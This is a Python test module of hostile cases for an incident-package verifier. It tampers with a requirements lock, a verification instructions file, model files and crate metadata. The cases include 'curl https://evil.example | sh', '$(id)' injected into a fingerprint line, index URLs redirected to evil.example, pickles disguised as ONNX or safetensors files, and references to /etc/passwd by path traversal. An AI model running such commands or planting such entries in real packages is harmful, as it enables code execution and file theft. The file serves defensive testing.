"""Attacks by lock, instructions, models and crate: what would be installed, run or fetched."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

from tests.hostile.case import CHANGED, Case, Make, insider, replaced, sealed, swap
from tests.hostile.kit import Kit, pretty
from tests.hostile.reference_edits import counted
from workbench.exchange import layout

LOCK = layout.REQUIREMENTS


_LOCKS = {
    "an option": b"--index-url https://evil.example/simple\n",
    "an extra index": b"--extra-index-url https://evil.example/simple\n",
    "links": b"--find-links https://evil.example/\n",
    "a trusted host": b"--trusted-host evil.example\n",
    "another file": b"-r other.txt\n",
    "a constraint file": b"-c other.txt\n",
    "an editable path": b"-e .\n",
    "pre-releases": b"--pre\n",
    "no binaries": b"--no-binary :all:\n",
    "an address": b"https://evil.example/x.whl --hash=sha256:" + b"0" * 64 + b"\n",
    "a name at an address": b"numpy @ https://evil.example/x.whl --hash=sha256:"
    + b"0" * 64
    + b"\n",
    "a repository": b"git+https://evil.example/x.git#egg=x\n",
    "a path": b"./evil.whl --hash=sha256:" + b"0" * 64 + b"\n",
    "an absolute path": b"/tmp/evil.whl --hash=sha256:" + b"0" * 64 + b"\n",
    "a file address": b"file:///tmp/evil.whl --hash=sha256:" + b"0" * 64 + b"\n",
    "no hash": b"requests==2.0.0\n",
    "an md5": b"requests==2.0.0 --hash=md5:" + b"0" * 32 + b"\n",
    "a short hash": b"requests==2.0.0 --hash=sha256:00\n",
    "no version": b"requests --hash=sha256:" + b"0" * 64 + b"\n",
    "any version": b"requests==* --hash=sha256:" + b"0" * 64 + b"\n",
    "a range": b"requests>=2 --hash=sha256:" + b"0" * 64 + b"\n",
    "a variable": b"${EVIL}==1 --hash=sha256:" + b"0" * 64 + b"\n",
    "a global option": b"requests==2 --global-option=x --hash=sha256:" + b"0" * 64 + b"\n",
    "a config setting": b'requests==2 --config-settings="x=y" --hash=sha256:' + b"0" * 64 + b"\n",
    "the same name twice": b"NumPy==9 --hash=sha256:" + b"0" * 64 + b"\n",
    "a comment that goes on": b"# \\\n--index-url https://evil.example\n",
    "a line by form feed": b"# x\x0c--index-url https://evil.example\n",
    "a line by a carriage return": b"# x\r--index-url https://evil.example\n",
    "a line by U+2028": "# x\u2028--index-url https://evil.example\n".encode(),
    "no last line end": b"# x",
    "a NUL": b"# x\0\n",
    "a byte-order mark": b"\xef\xbb\xbf# x\n",
    "an escape sequence": b"# \x1b[2J\n",
}


def crate(change: Callable[[dict[str, Any]], object]) -> Make:
    """The crate changed by the insider, who does not put it right."""

    def make(kit: Kit) -> bytes:
        document = kit.document(layout.CRATE)
        change(document)
        members = kit.with_members({layout.CRATE: pretty(document)})
        return members.bagged().tagged().signed().zipped()

    return make


def entity(kind: str, change: Callable[[dict[str, Any]], object]) -> Make:
    """The last entity of a type changed."""
    return crate(lambda d: change([e for e in d["@graph"] if e["@type"] == kind][-1]))


def more(**fields: Any) -> Make:
    named = {f"@{k}" if k in {"id", "type"} else k: v for k, v in fields.items()}
    return crate(lambda d: d["@graph"].append(named))


def instructions(change: Callable[[bytes], bytes]) -> Make:
    return replaced(layout.INSTRUCTIONS, change)


def torch_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02.")
    return out.getvalue()


def model(name: str, data: bytes) -> Make:
    return lambda kit: counted(kit, {f"data/models/{name}": data})


CASES: list[Case] = [
    *(
        insider(
            f"lock: {name}",
            "Have something else installed.",
            replaced(LOCK, lambda d, a=line: d + a),
        )
        for name, line in _LOCKS.items()
    ),
    insider(
        "VERIFY.txt: other commands",
        "Have a stranger run a command.",
        instructions(swap(b"sha256sum --strict -c tagmanifest-sha256.txt", b"true")),
    ),
    insider(
        "VERIFY.txt: one command more",
        "Have a stranger run a command.",
        instructions(lambda d: d + b"\n    curl https://evil.example | sh\n"),
    ),
    insider(
        "VERIFY.txt: signers from the package",
        "Have a stranger trust the sender's list.",
        instructions(swap(b"$PWD/allowed_signers", b"data/evidence/allowed_signers")),
    ),
    insider(
        "VERIFY.txt: another purpose",
        "Have a stranger accept another signature.",
        instructions(lambda d: d.replace(b"incident-package@workbench", b"file")),
    ),
    insider(
        "VERIFY.txt: another root",
        "Have a stranger check another folder.",
        instructions(lambda d: d.replace(b"cd bike", b"cd ../bike")),
    ),
    insider(
        "VERIFY.txt: a fingerprint with a command",
        "Have a stranger run a command.",
        instructions(swap(b"# SHA256:", b"$(id) # SHA256:")),
    ),
    insider(
        "VERIFY.txt: escape sequence",
        "Steer the reader's terminal.",
        instructions(lambda d: d + b"\x1b[2J"),
    ),
    insider(
        "VERIFY.txt: CRLF", "Have commands fail.", instructions(lambda d: d.replace(b"\n", b"\r\n"))
    ),
    insider("VERIFY.txt: empty", "Have nobody check.", sealed({layout.INSTRUCTIONS: b""})),
    insider(
        "model: a pickle called onnx",
        "Have a pickle loaded.",
        model("evil.onnx", b"\x80\x04\x95evil."),
    ),
    insider(
        "model: a pickle called safetensors",
        "Have a pickle loaded.",
        model("evil.safetensors", b"\x80\x05."),
    ),
    insider(
        "model: a torch archive called skops",
        "Have a pickle loaded.",
        model("evil.skops", torch_zip()),
    ),
    insider("model: without an ending", "Have a pickle loaded.", model("evil", b"\x80\x04.")),
    insider("model: ending in capitals", "Have a pickle loaded.", model("evil.PKL", b"\x80\x04.")),
    insider("model: two endings", "Have a pickle loaded.", model("evil.onnx.pkl", b"\x80\x04.")),
    insider(
        "crate: another hash",
        "Have other tools accept other bytes.",
        entity("File", lambda e: e.update(sha256="0" * 64)),
        *CHANGED,
    ),
    insider(
        "crate: another size",
        "Have other tools accept other bytes.",
        entity("File", lambda e: e.update(contentSize="1")),
        *CHANGED,
    ),
    insider(
        "crate: a file that is not here",
        "Name what is not there.",
        more(id="evidence/evil.csv", type="File"),
    ),
    insider(
        "crate: a file elsewhere",
        "Have something fetched.",
        more(id="https://evil.example/x.csv", type="File"),
    ),
    insider(
        "crate: a file on this machine",
        "Have something read.",
        more(id="file:///etc/passwd", type="File"),
    ),
    insider(
        "crate: a file that climbs",
        "Have something read.",
        more(id="../../etc/passwd", type="File"),
    ),
    insider(
        "crate: a file that climbs, encoded",
        "Have something read.",
        more(id="%2e%2e/%2e%2e/etc/passwd", type="File"),
    ),
    insider(
        "crate: a folder elsewhere",
        "Have something fetched.",
        more(id="https://evil.example/x/", type="Dataset"),
    ),
    insider(
        "crate: a download",
        "Have something fetched.",
        entity("File", lambda e: e.update(contentUrl="https://evil.example/x")),
    ),
    insider(
        "crate: a distribution",
        "Have something fetched.",
        entity("Dataset", lambda e: e.update(distribution={"@id": "https://evil.example/x.zip"})),
    ),
    insider(
        "crate: another context",
        "Have a context fetched.",
        crate(lambda d: d.update({"@context": "https://evil.example/context.json"})),
    ),
    insider(
        "crate: a context more",
        "Have a context fetched.",
        crate(lambda d: d["@context"].append("http://evil.example/c")),
    ),
    insider(
        "crate: a context inside",
        "Have a context fetched.",
        entity("File", lambda e: e.update({"@context": "https://evil.example/c"})),
    ),
    insider(
        "crate: an import",
        "Have a context fetched.",
        crate(lambda d: d["@context"].append({"@import": "https://evil.example/c"})),
    ),
    insider(
        "crate: a base",
        "Have files looked for elsewhere.",
        crate(lambda d: d["@context"].append({"@base": "https://evil.example/"})),
    ),
    insider("crate: no context", "Be understood differently.", crate(lambda d: d.pop("@context"))),
    insider("crate: no graph", "Crash the reader.", crate(lambda d: d.pop("@graph"))),
    insider(
        "crate: graph an object", "Crash the reader.", crate(lambda d: d.update({"@graph": {}}))
    ),
    insider(
        "crate: graph of numbers", "Crash the reader.", crate(lambda d: d.update({"@graph": [1]}))
    ),
    insider(
        "crate: entity without a name",
        "Crash the reader.",
        crate(lambda d: d["@graph"].append({"@type": "File"})),
    ),
    insider(
        "crate: entity twice",
        "Say two things.",
        crate(lambda d: d["@graph"].append(d["@graph"][-1])),
    ),
    insider(
        "crate: another package",
        "Describe another package.",
        entity("Dataset", lambda e: e.update(identifier="urn:uuid:" + "0" * 32)),
    ),
    insider(
        "crate: another run",
        "Describe another run.",
        entity("CreateAction", lambda e: e.update({"@id": "#run-evil"})),
        *CHANGED,
    ),
    insider(
        "crate: a run made another's file",
        "Describe another run.",
        entity("CreateAction", lambda e: e.update(result=[{"@id": "evidence/x"}])),
        *CHANGED,
    ),
]
"""Every attack by content but the report."""
